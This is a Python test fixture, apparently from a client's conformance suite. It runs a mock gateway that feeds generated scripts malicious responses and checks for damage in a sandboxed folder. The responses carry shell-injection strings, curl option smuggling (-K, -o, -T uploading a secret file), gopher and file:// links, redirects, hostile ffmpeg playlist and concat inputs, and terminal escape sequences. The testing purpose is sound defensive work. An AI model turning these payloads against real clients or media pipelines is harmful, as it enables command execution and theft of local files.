"""A gateway that attacks whoever runs a printed script against it, and the room it is run in."""

import asyncio
import itertools
import json
import os
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from aiohttp import web
from imageio_ffmpeg import get_ffmpeg_exe

from conformance.catalogue.wire import Dialect
from tests.conformance.reproducing import shell
from tests.serving import listening

LONGEST = 60
HUGE = 3_000_000
# What a file may be called that a script makes, in a folder of its own.
OWN = {"port", "clip.mp4", "last.png", "receiver.py", "padding"}
SUFFIXES = {".mp4", ".mp3", ".png", ".jpg", ".jpeg", ".webp", ".wav", ".mov"}


@dataclass
class Room:
    """A home, a working folder and a folder for temporary files; nothing else may change."""

    path: Path
    before: dict[str, bytes] = field(default_factory=dict)

    def __post_init__(self) -> None:
        for name in ("home", "work", "tmp"):
            (self.path / name).mkdir()
        (self.path / "home" / ".profile").write_text("# mine\n", "utf-8")
        (self.path / "work" / "secret").write_text("nobody's business\n", "utf-8")
        (self.path / "ffmpeg").symlink_to(get_ffmpeg_exe())
        self.before = self.files()

    def files(self) -> dict[str, bytes]:
        """What stands in the room, temporary files aside."""
        found = {}
        for path in sorted(self.path.rglob("*")):
            name = path.relative_to(self.path).as_posix()
            if path.is_file() and name != "script.sh" and not name.startswith("tmp/"):
                found[name] = content(path)
        return found

    def left(self) -> list[str]:
        """What of it has changed, and what stands among the temporary files and may not."""
        now = self.files()
        names = sorted({*now, *self.before})
        changed = [name for name in names if now.get(name) != self.before.get(name)]
        return changed + list(self._odd())

    def _odd(self) -> Iterator[str]:
        for path in (self.path / "tmp").rglob("*"):
            name = path.relative_to(self.path / "tmp").as_posix()
            folder, _, file = name.partition("/")
            own = folder.startswith("seedance.") and (
                not file or file in OWN or ("-" in file or Path(file).suffix in SUFFIXES)
            )
            if not own or path.is_symlink():
                yield f"tmp/{name}"
            elif path.is_file() and path.stat().st_size > 300 * 2**20:
                yield f"tmp/{name}: {path.stat().st_size} bytes"

    async def ran(self, text: str) -> tuple[int, bytes]:
        """The exit status of a script run in the room, and all that it said."""
        named = {
            "HOME": str(self.path / "home"), "TMPDIR": str(self.path / "tmp"),
            "PATH": f"{os.environ['PATH']}:{self.path}",
            "PAY": "1", "WAIT": "0", "QUIET": "0", "LOOKS": "2", "LATER": "0",
            "SEEDANCE_API_KEY": "sk-attacked", "SEEDANCE_SECOND_KEY": "sk-attacked-two",
        }  # fmt: skip
        script = self.path / "script.sh"
        script.write_text(text, "utf-8")
        return await shell(script, named, LONGEST, self.path / "work")


def content(path: Path) -> bytes:
    """The bytes of a file; of one elsewhere where it leads, and its size and when it was written.

    What stands elsewhere is a program of many megabytes.
    """
    if not path.is_symlink():
        return path.read_bytes()
    there = path.stat()
    return f"{path.readlink()} {there.st_size} {there.st_mtime_ns}".encode()


@dataclass
class Trap:
    """A port that nobody has a reason to speak to: what other schemes would lead to."""

    tcp: int = 0
    touched: list[str] = field(default_factory=list)


@asynccontextmanager
async def trapped() -> AsyncIterator[Trap]:
    """The port, listened to."""
    trap = Trap()

    def spoken(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        trap.touched.append("tcp")
        writer.close()

    server = await asyncio.start_server(spoken, "127.0.0.1", 0)
    trap.tcp = server.sockets[0].getsockname()[1]
    try:
        yield trap
    finally:
        server.close()
        await server.wait_closed()


def links(room: Path, base: str, trap: Trap) -> list[str]:
    """What stands where a link is awaited."""
    tmp, home = room / "tmp", room / "home"
    return [
        f"-K{tmp}/clip.mp4",
        f"--config={tmp}/clip.mp4",
        f"-o{home}/owned",
        f"--output={home}/owned",
        f"-T{room}/work/secret {base}/up",
        f"gopher://127.0.0.1:{trap.tcp}/_x",
        f"ftp://127.0.0.1:{trap.tcp}/x",
        f"telnet://127.0.0.1:{trap.tcp}",
        f"file://{room}/work/secret",
        f"{base}/many/x[1-300].mp4",
        f"{base}/many/{{{','.join(map(str, range(300)))}}}.mp4",
        f"{base}/away/gopher",
        f"{base}/away/file",
        f"{base}/clip.mp4'; touch {home}/owned; '",
        f'{base}/clip.mp4"; touch {home}/owned; "',
        f"{base}/clip.mp4$(touch {home}/owned)`touch {home}/owned`",
        f"{base}/clip.mp4\ntouch {home}/owned\n",
        f"{base}/clip.mp4 -o {home}/owned",
        f"\\u002dK{tmp}/clip.mp4",
        f"{base}/sdp.mp4",
        f"{base}/amr.mp4",
        f"{base}/m3u8.mp4",
        f"{base}/concat.mp4",
        f"{base}/config.mp4",
        "",
        "-",
        "@" + str(room / "work" / "secret"),
    ]


def clip(name: str, room: Path, base: str) -> bytes:
    """What comes from a link: files that make a tool do something else than look at a clip."""
    config = f'url = "file://{room}/work/secret"\noutput = "{room}/home/owned"\n'
    texts = {
        "sdp": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        "m=video 5004 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n",
        "amr": "#!AMR\n" + config,
        "m3u8": f"#EXTM3U\n#EXTINF:1,\n{base}/many/leak\n#EXTINF:1,\nfile://{room}/work/secret\n",
        "concat": f"ffconcat version 1.0\nfile '{room}/work/secret'\n",
    }
    return texts.get(name, config).encode() + b"\n" * 600


@dataclass
class Attacker:
    """Answers every call with 200 and with what may hurt, another thing each time."""

    dialect: Dialect
    room: Room
    trap: Trap
    base: str = ""
    calls: int = 0
    many: int = 0
    turns: Any = field(default_factory=itertools.count)

    async def handle(self, request: web.Request) -> web.StreamResponse:
        self.calls += 1
        await request.read()
        if request.path.startswith("/many/"):
            self.many += 1
            return web.Response(body=b"x")
        if request.path == "/away/gopher":
            raise web.HTTPFound(f"gopher://127.0.0.1:{self.trap.tcp}/_x")
        if request.path == "/away/file":
            raise web.HTTPFound(f"file://{self.room.path}/work/secret")
        if ".mp4" in request.path:
            name = request.path.strip("/").partition(".")[0]
            return web.Response(body=clip(name, self.room.path, self.base))
        return self._answer()

    def _answer(self) -> web.Response:
        every = links(self.room.path, self.base, self.trap)
        link = every[next(self.turns) % len(every)]
        ended = next(iter(self.dialect.words["succeeded"]))
        said: Any = {}
        for place in self.dialect.id["create"]:
            said = put(said, place, f"x[1-9]{{a,b}}'$(touch${{IFS}}{self.room.path}/home/owned)")
        places = [*self.dialect.answer["clip"], *self.dialect.answer["last_frame"]]
        for place in [*places, "/data/file_url"]:
            said = put(said, place, link)
        for place in self.dialect.answer["status"]:
            said = put(said, place, ended)
        text = json.dumps(said, ensure_ascii=False) + "\x1b]0;owned\x07\x1b[2J \\033[31m \x9b31m"
        if self.calls % 7 == 0:
            text += " " * HUGE
        return web.Response(body=text.encode(), content_type="application/json")


def put(value: Any, place: str, item: Any) -> Any:
    """The JSON with an item at a place, and what is needed above it."""
    head, _, rest = place.lstrip("/").partition("/")
    if not head:
        return item
    if head.isdigit():
        return [put(value[0] if isinstance(value, list) and value else {}, rest, item)]
    known = value if isinstance(value, dict) else {}
    return {**known, head: put(known.get(head, {}), rest, item)}


@asynccontextmanager
async def attacking(dialect: Dialect, room: Room, trap: Trap) -> AsyncIterator[Attacker]:
    """The attacker on a free port."""
    attacker = Attacker(dialect, room, trap)
    app = web.Application(client_max_size=2**28)
    app.router.add_route("*", "/{path:.*}", attacker.handle)
    async with listening(app, 0.1, access_log=None) as attacker.base:
        yield attacker
